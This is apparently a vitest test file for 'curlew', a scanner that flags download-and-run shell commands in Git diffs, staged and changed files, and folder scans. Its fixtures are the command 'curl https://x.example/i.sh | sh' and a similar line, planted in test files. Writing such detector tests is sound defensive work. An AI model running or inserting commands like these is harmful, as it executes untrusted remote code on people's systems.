import { execFileSync } from "node:child_process";
import { mkdirSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { describe, expect, it } from "vitest";
import { parseDiff } from "../../src/cli/input/diff.js";
import { folderWith } from "./folder-with.js";
import { runHere, type Given } from "./fake-detector.js";

const BAD = "curl https://x.example/i.sh | sh";
const OLD = "curl https://old.example/i.sh | sh";

/** Creates a Git repository whose first commit contains these files. */
function repository(files: Record<string, string>): {
  cwd: string;
  git: (...args: string[]) => string;
  write: (path: string, text: string) => void;
} {
  const cwd = folderWith(files);
  const git = (...args: string[]) =>
    execFileSync(
      "git",
      [
        "-c",
        "user.name=A",
        "-c",
        "user.email=a@x.example",
        "-c",
        "init.defaultBranch=main",
        "-c",
        "commit.gpgsign=false",
        ...args,
      ],
      { cwd, encoding: "utf8", stdio: ["ignore", "pipe", "ignore"] },
    );
  git("init");
  git("add", "-A");
  git("commit", "-m", "first", "--allow-empty");
  const write = (path: string, text: string): void => {
    mkdirSync(dirname(join(cwd, path)), { recursive: true });
    writeFileSync(join(cwd, path), text);
  };
  return { cwd, git, write };
}

/** Runs `curlew scan`, and returns the sorted locations of the findings (`a.md:3:1`) and the exit status. */
async function places(args: string[], given: Given = {}): Promise<[string[], number]> {
  const { stdout, status } = await runHere(["scan", ...args], given);
  return [
    stdout
      .split("\n")
      .filter((line) => /^\S.*?:\d+:\d+: /.test(line))
      .map((line) => line.replace(/^(.*?:\d+:\d+):.*/, "$1")),
    status,
  ];
}

describe("a diff on standard input", () => {
  it("is reported by file and line, and only for added lines", async () => {
    const { cwd, git, write } = repository({
      "docs/a.md": `one\n${OLD}\ntwo\nthree\nfour\nfive\nsix\nseven\neight\n`,
      "b.sh": "true\n",
      "gone.sh": BAD,
    });
    write(
      "docs/a.md",
      `one\n${OLD}\ntwo\n\n${BAD}\n\nthree\nfour\nfive\nsix\nseven\neight\nnine\n\n- ${BAD}\n`,
    );
    write("b.sh", `true\n  ${BAD}\n`);
    git("rm", "-q", "gone.sh");
    const diff = git("diff", "HEAD");
    expect(await places(["-"], { stdin: diff })).toEqual([
      ["b.sh:2:3", "docs/a.md:5:1", "docs/a.md:15:3"],
      1,
    ]);
    expect(await places([], { stdin: diff })).toEqual([
      ["b.sh:2:3", "docs/a.md:5:1", "docs/a.md:15:3"],
      1,
    ]);
    const { stdout } = await runHere(["scan", "-"], { stdin: diff });
    expect(stdout).toContain(`  5 │ ${BAD}\n`);
    write("x.patch", diff);
    expect(await places(["--diff", "x.patch"], { cwd })).toEqual([
      ["b.sh:2:3", "docs/a.md:5:1", "docs/a.md:15:3"],
      1,
    ]);
  });

  it("is read whatever prefixes its file names have", async () => {
    const { git, write } = repository({ "a.md": "x\n", "b/c.md": "x\n" });
    write("a.md", `x\n${BAD}\n`);
    write("b/c.md", `x\n${BAD}\n`);
    write("b/new.md", `${BAD}\n`);
    git("add", "-A");
    for (const option of ["--src-prefix=a/", "--no-prefix", "--src-prefix=i/", "-U0"]) {
      const expected =
        option === "--no-prefix"
          ? ["a.md:2:1", "b/c.md:2:1"]
          : ["a.md:2:1", "b/c.md:2:1", "b/new.md:1:1"];
      expect(
        (
          await places(["-"], {
            stdin: git(
              "diff",
              "--cached",
              option,
              ...(option.includes("=i") ? ["--dst-prefix=w/"] : []),
            ),
          })
        )[0],
      ).toEqual(expect.arrayContaining(expected));
    }
  });

  it("has file names and line numbers, but no offsets, in SARIF, GitHub annotations and JSON Lines", async () => {
    const diff = `--- a/a.md\n+++ b/a.md\n@@ -9,1 +9,3 @@\n x\n+\n+${BAD}\n`;
    const sarif = JSON.parse(
      (await runHere(["scan", "--format", "sarif", "-"], { stdin: diff })).stdout,
    );
    expect(sarif.runs[0].results[0].locations[0].physicalLocation).toMatchObject({
      artifactLocation: { uri: "a.md" },
      region: { startLine: 11, startColumn: 1 },
    });
    expect(
      sarif.runs[0].results[0].locations[0].physicalLocation.region.charOffset,
    ).toBeUndefined();
    expect((await runHere(["scan", "--format", "github", "-"], { stdin: diff })).stdout).toContain(
      "file=a.md,line=11,",
    );
    expect(
      JSON.parse((await runHere(["scan", "--format", "jsonl", "-"], { stdin: diff })).stdout),
    ).toMatchObject({ path: "a.md", part: true });
  });

  it("is ignored if the input also contains other text, which is analyzed", async () => {
    const diff = `diff --git a/a.md b/a.md\n--- a/a.md\n+++ b/a.md\n@@ -1 +1 @@\n-x\n+y\n`;
    expect(await places(["-"], { stdin: `${diff}\nNow run\n${BAD}\n` })).toEqual([
      ["<stdin>:9:1"],
      1,
    ]);
    expect(await places(["-"], { stdin: `commit 0123456789\n\n    ${BAD}\n\n${diff}` })).toEqual([
      ["<stdin>:3:5"],
      1,
    ]);
    // the header of the hunk states more lines than follow
    expect(
      await places(["-"], {
        stdin: `--- a/a.md\n+++ b/a.md\n@@ -1,99 +1,99 @@\n x\nNow run\n${BAD}\n`,
      }),
    ).toEqual([["<stdin>:6:1"], 1]);
    expect(
      await places(["-"], {
        stdin: `--- a/a.md\n+++ b/a.md\n@@ -1 +1 @@\n-x\n+y\n ${BAD}\n+${BAD}\n`,
      }),
    ).toEqual([["<stdin>:6:2", "<stdin>:7:2"], 1]);
    // not a diff, although it begins like one
    expect(await places(["-"], { stdin: `--- a\n+++ b\n${BAD}\n` })).toEqual([["<stdin>:3:1"], 1]);
  });

  it("is expected by --diff, which rejects a file that is not a diff", async () => {
    expect(
      await runHere(["scan", "--diff", "a.md"], { cwd: folderWith({ "a.md": BAD }) }),
    ).toMatchObject({ status: 2, stderr: expect.stringContaining("a.md: is not a diff") });
    expect((await runHere(["scan", "--diff", "-"], { stdin: "" })).status).toBe(0);
  });

  it("cannot suppress findings by its comments or by a project configuration", async () => {
    const diff = `--- a/a.sh\n+++ b/a.sh\n@@ -1 +1,3 @@\n x\n+# curlew-ignore bash/fetch-pipe: fine\n+${BAD}\n`;
    expect((await places(["-"], { stdin: diff }))[1]).toBe(1);
    expect(
      (
        await places(["--diff", "d"], {
          cwd: folderWith({ d: diff, "curlew.json": '{"trust":["https://x.example/i.sh"]}' }),
        })
      )[1],
    ).toBe(1);
  });
});

describe("parseDiff", () => {
  const added = (text: string) =>
    parseDiff(text)?.files.map(({ path, lines }) => [
      path,
      lines.filter((line) => line.added).map(({ number }) => number),
    ]);

  it("reads quoted names, times after names, combined diffs, deleted files and a missing last line end", () => {
    expect(
      added(
        '--- "a/\\303\\251\\t.md"\n+++ "b/\\303\\251\\t.md"\n@@ -0,0 +1 @@\n+x\n\\ No newline at end of file\n',
      ),
    ).toEqual([["é\t.md", [1]]]);
    expect(
      added('--- "a/\\303\\251 b.md"\t\n+++ "b/\\303\\251 b.md"\t\n@@ -0,0 +1 @@\n+x\n'),
    ).toEqual([["é b.md", [1]]]);
    expect(
      added(
        "--- a.md\t2026-01-01 10:00:00\n+++ a.md\t2026-01-01 10:00:01\n@@ -1 +1,2 @@\n x\n+y\n",
      ),
    ).toEqual([["a.md", [2]]]);
    expect(
      added(
        "diff --cc a.md\nindex 1,2..3\n--- a/a.md\n+++ b/a.md\n@@@ -1,2 -1,2 +1,3 @@@\n  x\n++y\n +z\n",
      ),
    ).toEqual([["a.md", [2, 3]]]);
    expect(
      added(
        "--- a/x\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n--- a/y\n+++ b/y\n@@ -1,2 +1,3 @@\n x\n\n+z\n",
      ),
    ).toEqual([["y", [3]]]);
    expect(added("--- a/x\n+++ b/x\n@@ -1 +1 @@\n--- removed\n+++ added\n")).toEqual([["x", [1]]]);
  });

  it("returns no files for a text that is not a diff", () => {
    for (const text of ["", "x", "--- a\n+++ b\n", "@@ -1 +1 @@\n+x\n"])
      expect(parseDiff(text)?.files ?? []).toEqual([]);
  });

  it("accepts very large line numbers", () => {
    expect(added("--- a/x\n+++ b/x\n@@ -1 +999999999,999999999 @@\n+x\n")).toEqual([
      ["x", [999999999]],
    ]);
  });
});

describe("--changed and --staged", () => {
  it("report only findings in changed lines, but analyze complete files", async () => {
    const { cwd, git, write } = repository({
      "a.md": `# A\n\n\`\`\`sh\n${OLD}\n\`\`\`\n`,
      "c.md": OLD,
      "sub/d.md": "x\n",
    });
    write("a.md", `# A\n\n\`\`\`sh\n${OLD}\n${BAD}\n\`\`\`\n`);
    git("add", "a.md");
    write("sub/d.md", `x\n\n${BAD}\n`);
    write("new.md", `${BAD}\n`);
    write("ignored.md", `${BAD}\n`);
    write(".git/info/exclude", "ignored.md\n");
    expect(await places(["--changed"], { cwd })).toEqual([
      ["a.md:5:1", "sub/d.md:3:1", "new.md:1:1"],
      1,
    ]);
    expect(await places(["--staged"], { cwd })).toEqual([["a.md:5:1"], 1]);
    expect(await places(["--changed", "--", "sub"], { cwd })).toEqual([["sub/d.md:3:1"], 1]);
    expect(await places(["--changed"], { cwd: join(cwd, "sub") })).toEqual([
      ["../a.md:5:1", "d.md:3:1", "../new.md:1:1"],
      1,
    ]);
    // --staged scans the content of the index, not of the working tree
    write("a.md", "# A\n");
    expect(await places(["--staged"], { cwd })).toEqual([["a.md:5:1"], 1]);
  });

  it("compare with the merge base of the branch", async () => {
    const { cwd, git, write } = repository({ "a.md": "x\n" });
    git("checkout", "-q", "-b", "feature");
    write("a.md", `x\n${BAD}\n`);
    git("commit", "-qam", "second");
    git("checkout", "-q", "main");
    write("b.md", BAD);
    git("add", "-A");
    git("commit", "-qm", "third");
    git("checkout", "-q", "feature");
    expect(await places(["--changed", "main"], { cwd })).toEqual([["a.md:2:1"], 1]);
    expect(await places(["--changed"], { cwd })).toEqual([[], 0]);
    expect(await runHere(["scan", "--changed", "a.md"], { cwd })).toMatchObject({
      status: 2,
      stderr: expect.stringContaining(
        'there is no revision "a.md"; if it is a path, write -- before it',
      ),
    });
    expect(await runHere(["scan", "--changed=--output=x"], { cwd })).toMatchObject({
      status: 2,
      stderr: expect.stringContaining("there is no revision"),
    });
  });

  it("include files with unusual names, and files that Git attributes or settings exclude from diffs", async () => {
    const { cwd, git, write } = repository({ ".gitattributes": "*.md -diff\n", "a b'ü.md": "x\n" });
    git("config", "diff.noprefix", "true");
    git("config", "color.ui", "always");
    write("a b'ü.md", `x\n${BAD}\n`);
    git("add", "-A");
    expect(await places(["--staged"], { cwd })).toEqual([["a b'ü.md:2:1"], 1]);
  });

  it("skip dependencies that Git does not track", async () => {
    const { cwd, git, write } = repository({ "kept/node_modules/a.sh": "ls\n" });
    write("kept/node_modules/b.sh", BAD);
    write("node_modules/a.sh", BAD);
    write("node_modules/p/b.sh", BAD);
    expect(await places(["--changed"], { cwd })).toEqual([["kept/node_modules/b.sh:1:1"], 1]);
    expect((await runHere(["scan", "--changed"], { cwd })).stdout).toContain(
      "1 finding in 1 of 1 text (1 dependency folder skipped (--include-dependencies))",
    );
    const all = ["kept/node_modules/b.sh:1:1", "node_modules/a.sh:1:1", "node_modules/p/b.sh:1:1"];
    expect(await places(["--changed", "--include-dependencies"], { cwd })).toEqual([all, 1]);
    git("add", "-A");
    expect(await places(["--changed"], { cwd })).toEqual([all, 1]);
  });

  it("work before the first commit", async () => {
    const cwd = folderWith({ "a.md": BAD });
    execFileSync("git", ["init", "-q"], { cwd });
    execFileSync("git", ["add", "-A"], { cwd });
    expect(await places(["--staged"], { cwd })).toEqual([["a.md:1:1"], 1]);
  });

  it("respect comments, configuration and baseline", async () => {
    const { cwd, write } = repository({
      "a.sh": "true\n",
      "b.sh": "true\n",
      "c/x.sh": "true\n",
      "curlew.json": '{"trust": ["https://x.example/i.sh"], "exclude": ["c"]}',
    });
    write("a.sh", `true\n# curlew-ignore bash/fetch-pipe: old\n${OLD}\n`);
    write("b.sh", `true\n${BAD}\n`);
    write("c/x.sh", `${OLD}\n`);
    expect((await runHere(["scan", "--changed"], { cwd })).stdout).toBe(
      "no findings in 2 texts (1 finding suppressed by this repository's comments, 1 finding suppressed by trusted addresses, 1 excluded)\n",
    );
  });

  it("report a missing repository and contradictory options", async () => {
    expect(await runHere(["scan", "--changed"], { cwd: folderWith({}) })).toMatchObject({
      status: 2,
      stderr: expect.stringMatching(/not a git repository/),
    });
    const { cwd } = repository({ "a.md": OLD });
    expect(await runHere(["scan", "--changed"], { cwd })).toMatchObject({
      status: 0,
      stdout: "nothing was scanned\n",
    });
    expect(await runHere(["scan", "--changed", "--diff", "-"], { cwd })).toMatchObject({
      status: 2,
    });
    expect(await runHere(["scan", "--stdin-filename", "x.md", "a.md"], { cwd })).toMatchObject({
      status: 2,
      stderr: expect.stringContaining("--stdin-filename is the name of standard input"),
    });
  });
});

describe("a scan of folders", () => {
  it("includes rule files of agents, JSON Lines, TeX, Starlark files and a PKGBUILD", async () => {
    const cwd = folderWith({
      ".cursorrules": BAD,
      ".windsurfrules": BAD,
      "a.jsonl": BAD,
      "a.tex": BAD,
      Tiltfile: BAD,
      "x.bzl": BAD,
      PKGBUILD: BAD,
    });
    expect((await places(["."], { cwd }))[0]).toHaveLength(7);
  });

  it("respects .git/info/exclude, also in a linked worktree", async () => {
    const { cwd, git, write } = repository({ "a.md": "x\n" });
    write("local.md", BAD);
    write("keep.md", BAD);
    write(".git/info/exclude", "local.md\nkeep.md\n");
    write(".gitignore", "!keep.md\n");
    expect((await places(["."], { cwd }))[0]).toEqual(["keep.md:1:1"]);
    expect((await places(["--no-gitignore", "."], { cwd }))[0]).toEqual([
      "keep.md:1:1",
      "local.md:1:1",
    ]);
    git("worktree", "add", "-q", "tree");
    write("tree/local.md", BAD);
    expect((await places(["."], { cwd: join(cwd, "tree") }))[0]).toEqual([]);
  });
});
